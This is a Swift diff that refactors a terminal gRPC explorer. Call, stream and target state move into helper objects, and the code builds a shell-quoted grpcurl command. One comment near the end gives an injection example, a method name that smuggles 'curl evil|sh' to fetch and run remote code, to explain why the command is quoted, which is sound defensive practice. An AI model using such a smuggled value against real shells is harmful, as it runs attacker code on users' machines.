@@ -22,13 +22,13 @@ extension ExplorerState {
     case (nil, .input) where composesJSON:
       composer.edit { $0.insert(character) }
     case (nil, .input):
-      typeIntoInput(character)
+      prompt.type { $0.insert(character) }
     case (nil, .methods) where tree.isEditingFilter:
       tree.editFilter { $0.insert(character) }
     case (nil, .methods) where !composesJSON:
       // A letter no Methods key uses starts the name: the first screen asks for one.
       focus = .input
-      typeIntoInput(character)
+      prompt.type { $0.insert(character) }
     default:
       break
     }
@@ -61,10 +61,6 @@ extension ExplorerState {
     }
   }
 
-  private mutating func typeIntoInput(_ character: Character) {
-    prompt.type { $0.insert(character) }
-  }
-
   mutating func perform(_ action: Keymap.Action) -> [Effect] {
     switch action {
     case .quit:
@@ -82,14 +78,14 @@ extension ExplorerState {
       return connectToTypedTarget()
     case .toggleServer:
       let on: Bool
-      switch server {
+      switch title.server {
       case .off, .failed, .stopping: on = true
       case .on, .starting: on = false
       }
-      server = on ? .starting : .stopping
+      title.update(server: on ? .starting : .stopping)
       return [.setServer(on: on)]
     case .changeTarget:
-      overlay = .target(LineEditor(target))
+      overlay = .target(LineEditor(title.target))
       targetError = nil
     case .nextFocus, .previousFocus:
       let all = visibleFocuses
@@ -118,26 +114,26 @@ extension ExplorerState {
     case .newline:
       if case .settings(var form) = overlay {
         // Enter in the deadline goes on to the headers, where it starts a new line.
-        if form.field == .deadline { form.field = .headers } else { form.headers.newline() }
+        form.newline()
         overlay = .settings(form)
       } else {
         composer.edit { $0.newline() }
       }
     case .editSettings:
-      overlay = .settings(SettingsForm(requestSettings))
+      overlay = .settings(SettingsForm(title.requestSettings))
       overlayScroll = 0
     case .switchField:
       if case .settings(var form) = overlay {
-        form.field = form.field == .deadline ? .headers : .deadline
+        form.switchField()
         overlay = .settings(form)
       }
     case .saveSettings:
       return saveSettings()
     case .toggleWhole:
-      if let index = shownCallIndex { calls[index].isExpanded.toggle() }
+      transcript.toggleWhole()
     case .showHeaders:
-      if let index = shownCallIndex {
-        overlay = .headers(callID: calls[index].id)
+      if let call = transcript.shownCall {
+        overlay = .headers(callID: call.id)
         overlayScroll = 0
       }
     case .undo:
@@ -151,14 +147,16 @@ extension ExplorerState {
     case .send:
       return send()
     case .halfClose:
-      guard let id = openStream else {
+      guard let id = transcript.closeStream() else {
         notice = "no open stream to end (Enter opens one)"
         return []
       }
-      openStream = nil
       return [.finishSending(id: id)]
     case .cancelCall:
-      guard let id = openStream ?? calls.last(where: { $0.phase == .running })?.id else {
+      guard
+        let id = transcript.openStream
+          ?? transcript.calls.last(where: { $0.phase == .running })?.id
+      else {
         return []
       }
       return [.cancel(id: id)]
@@ -178,14 +176,14 @@ extension ExplorerState {
       } else if focus == .input, composesJSON {
         composer.edit { $0.edit(action) }
       } else {
-        input.edit(action)
+        prompt.type { $0.edit(action) }
       }
     case .expand where focus == .methods:
       tree.unfold()
     case .collapse where focus == .methods:
-      tree.fold(methods: methods, selected: selectedMethod)
+      tree.fold()
     case .expand:
-      if shownCallIndex != nil {
+      if transcript.shownCall != nil {
         inspector.enter()
       }
     case .collapse:
@@ -195,8 +193,8 @@ extension ExplorerState {
     case .rerun:
       return rerun()
     case .showGrpcurl:
-      guard let index = shownCallIndex else { break }
-      let command = grpcurlCommand(for: calls[index])
+      guard let call = transcript.shownCall else { break }
+      let command = grpcurlCommand(for: call)
       overlay = .grpcurl(command)
       overlayScroll = 0
       return copy(command)
@@ -207,19 +205,9 @@ extension ExplorerState {
   /// Ends the explorer: calls still running (an open bidi stream) are cut off and written to
   /// history as such, so quitting loses nothing.
   mutating func quit(reason: String) -> [Effect] {
-    var effects: [Effect] = []
-    for index in calls.indices where calls[index].phase == .running {
-      let id = calls[index].id
-      calls[index].phase = .finished
-      let elapsed = now > calls[index].startNanos ? now - calls[index].startNanos : 0
-      calls[index].ending = CallRecord.Ending(
-        code: 1, name: "CANCELLED", message: "cut off: \(reason)",
-        totalMicros: Int(elapsed / 1000))
-      effects += [.cancel(id: id), .recordHistory(id: id)]
-    }
-    openStream = nil
+    let ids = transcript.cutOffRunningCalls(reason: reason, now: now)
     requestQuit()
-    return effects + [.quit]
+    return ids.flatMap { [Effect.cancel(id: $0), .recordHistory(id: $0)] } + [.quit]
   }
 
   private mutating func connectToTypedTarget() -> [Effect] {
@@ -232,29 +220,17 @@ extension ExplorerState {
     }
     overlay = nil
     targetError = nil
-    for index in calls.indices where calls[index].phase == .running {
-      cutOffReasons[calls[index].id] = "the target changed to \(text)"
-    }
-    openStream = nil
-    target = text
-    targetIsEmbedded = false
+    transcript.willCutOffRunningCalls("the target changed to \(text)")
     // The old server's headers (a bearer token) are not the new one's: none until the app
     // brings what was remembered for it.
-    requestSettings = RequestSettings()
-    connection = .idle
-    discovery = .running("reflection")
+    title.switchTarget(to: text)
     notice = "target \(text)"
     return [.setTarget(text)]
   }
 
   private mutating func move(by step: Int) {
     if case .settings(var form) = overlay {
-      switch form.field {
-      case .deadline where step > 0: form.field = .headers
-      case .deadline: break
-      case .headers where step < 0 && form.headers.cursor.line == 0: form.field = .deadline
-      case .headers: form.headers.moveLines(by: step)
-      }
+      form.move(by: step)
       overlay = .settings(form)
       return
     }
@@ -264,18 +240,17 @@ extension ExplorerState {
     }
     switch focus {
     case .methods:
-      tree.move(by: step, methods: methods, selected: &selectedMethod)
+      tree.move(by: step)
     case .input:
       if composesJSON { composer.edit { $0.moveLines(by: step) } }
     case .transcript:
-      guard let current = shownCallIndex else { return }
-      selectCall(min(max(0, current + step), calls.count - 1))
+      // The same call again (at either end) starts from its first frame, as a new one does.
+      if transcript.moveSelection(by: step) { inspector.reset() }
     case .frames:
-      if inFrameDetail {
+      if inspector.inDetail {
         moveInDetail(by: step)
       } else {
-        let count = shownCallIndex.flatMap { calls[$0].frames?.count } ?? 0
-        inspector.moveFrame(by: step, count: count)
+        inspector.moveFrame(by: step, count: shownFrames.count)
       }
     }
   }
@@ -288,32 +263,23 @@ extension ExplorerState {
     let rows = max(1, height / 3)
     switch focus {
     case .methods:
-      tree.move(
-        by: direction * max(1, (layout?.methods?.height ?? 3) - 3), methods: methods,
-        selected: &selectedMethod)
+      tree.move(by: direction * max(1, (layout?.methods?.height ?? 3) - 3))
     case .input where composesJSON:
       let rows = direction * max(1, composerRows - 1)
       composer.edit { $0.moveLines(by: rows) }
-    case .frames where inFrameDetail:
+    case .frames where inspector.inDetail:
       scrollDetail(by: direction * max(1, detailPageRows))
     case .frames:
-      let count = shownCallIndex.flatMap { calls[$0].frames?.count } ?? 0
-      inspector.moveFrame(by: direction * rows, count: count)
+      inspector.moveFrame(by: direction * rows, count: shownFrames.count)
     default:
-      transcriptScroll = max(0, transcriptScroll - direction * rows)
+      transcript.scroll(up: -direction * rows)
     }
   }
 
-  mutating func selectCall(_ index: Int) {
-    selectedCall = index == calls.count - 1 ? nil : index
-    inspector.reset()
-    transcriptScroll = 0
-  }
-
   private mutating func send() -> [Effect] {
-    guard let method = currentMethod else { return [] }
+    guard let method = tree.current else { return [] }
     if composesJSON { return sendComposed(method) }
-    let line = input.text
+    let line = prompt.editor.text
     // Without its input type in the catalog nothing can be encoded: say so, keep the line.
     guard let type = inputType(of: method.path), catalog.message(type) != nil else {
       notice = InertText.make("\(method.name): its input type is not in the schema; nothing sent")
@@ -352,22 +318,21 @@ extension ExplorerState {
   /// Sends `draft`: on the method's open stream, else as a new call.
   private mutating func start(_ draft: RequestDraft, of method: Method) -> [Effect] {
     notice = nil
-    if method.kind.clientStreams, let id = openStream, let index = index(ofCall: id),
-      calls[index].phase == .running, calls[index].path == method.path
+    if method.kind.clientStreams, let id = transcript.openStream,
+      let index = transcript.index(ofCall: id), transcript.calls[index].phase == .running,
+      transcript.calls[index].path == method.path
     {
-      calls[index].append(draft, shown: shownText(of: draft))
-      selectCall(index)
+      transcript.appendRequest(draft, shown: shownText(of: draft), toCallAt: index)
       return [.send(id: id, request: draft)]
     }
     // One stream is open at a time: a stream of another method (bidi, then client streaming,
     // say) is half-closed before the new one opens, or no key could end it any more.
     var effects: [Effect] = []
-    if method.kind.clientStreams, let open = openStream {
+    if method.kind.clientStreams, let open = transcript.closeStream() {
       effects.append(.finishSending(id: open))
-      openStream = nil
     }
     let id = startCall(method, requests: [draft])
-    if method.kind.clientStreams { openStream = id }
+    if method.kind.clientStreams { transcript.openStream(id) }
     return effects + [
       .startCall(id: id, path: method.path, request: draft, halfClose: !method.kind.clientStreams)
     ]
@@ -375,17 +340,16 @@ extension ExplorerState {
 
   /// Appends a running call to the transcript and follows it.
   private mutating func startCall(_ method: Method, requests: [RequestDraft]) -> Int {
-    let id = nextCallID
-    nextCallID += 1
+    let id = transcript.takeID()
     var call = CallRecord(
       id: id, method: method.name, path: method.path, kind: method.kind,
       startNanos: now)
-    call.sentHeaders = requestSettings.headers.map { InertText.make("\($0.name): \($0.value)") }
-    call.target = target
-    call.sentDeadline = requestSettings.deadline
+    let settings = title.requestSettings
+    call.sentHeaders = settings.headers.map { InertText.make("\($0.name): \($0.value)") }
+    call.target = title.target
+    call.sentDeadline = settings.deadline
     for draft in requests { call.append(draft, shown: shownText(of: draft)) }
-    calls.append(call)
-    selectCall(calls.count - 1)
+    transcript.append(call)
     return id
   }
 
@@ -413,14 +377,14 @@ extension ExplorerState {
     guard case .settings(var form) = overlay else { return [] }
     switch RequestSettings.parse(headers: form.headers.text, deadline: form.deadline.text) {
     case .failure(let error):
-      form.error = InertText.make(error.description)
+      form.refuse(InertText.make(error.description))
       overlay = .settings(form)
       return []
     case .success(let settings):
-      requestSettings = settings
+      title.update(settings: settings)
       overlay = nil
       notice = settings.isEmpty ? "no metadata, no deadline" : "calls now send \(settings.summary)"
-      return [.saveRequestSettings(target: target, settings)]
+      return [.saveRequestSettings(target: title.target, settings)]
     }
   }
 
@@ -440,21 +404,18 @@ extension ExplorerState {
   /// `e` in the transcript: the shown call's method selected, its last request in the composer
   /// (or the prompt) to change and send again.
   private mutating func editRequest() {
-    guard let index = shownCallIndex, !calls[index].isDiscovery else { return }
-    let call = calls[index]
-    guard let methodIndex = methods.firstIndex(where: { $0.path == call.path }) else {
+    guard let call = transcript.shownCall, !call.isDiscovery else { return }
+    guard tree.select(path: call.path) else {
       notice = InertText.make("\(call.method) is not a method of this schema")
       return
     }
-    selectedMethod = methodIndex
-    tree.reveal(methods[methodIndex].path)
     focus = .input
     guard let last = drafts(of: call).last else { return }
     if composesJSON {
       syncComposer()
       composer.fill(with: last.json)
     } else {
-      input.replace(with: catalog.shownText(of: last))
+      prompt.replace(with: catalog.shownText(of: last))
     }
   }
 
@@ -462,10 +423,9 @@ extension ExplorerState {
   var composerRows: Int { max(1, (layout?.composer?.height ?? 3) - 2) }
 
   private mutating func rerun() -> [Effect] {
-    guard let index = shownCallIndex else { return [] }
-    let old = calls[index]
+    guard let old = transcript.shownCall else { return [] }
     let method =
-      methods.first { $0.path == old.path }
+      tree.methods.first { $0.path == old.path }
       ?? Method(name: old.method, path: old.path, kind: old.kind)
     let requests = drafts(of: old)
     let id = startCall(method, requests: requests)
@@ -508,7 +468,7 @@ extension ExplorerState {
     if let deadline = call.sentDeadline { options += "-max-time \(Self.shellQuoted(deadline)) " }
     // The path comes from the server's descriptors: quoted like everything else, so that a
     // method named `x;curl evil|sh` is an argument, not a command.
-    let destination = Self.shellWord(call.target ?? target)
+    let destination = Self.shellWord(call.target ?? title.target)
     let method = Self.shellWord(path)
     return "grpcurl -plaintext \(options)-d \(Self.shellQuoted(data)) \(destination) \(method)"
   }
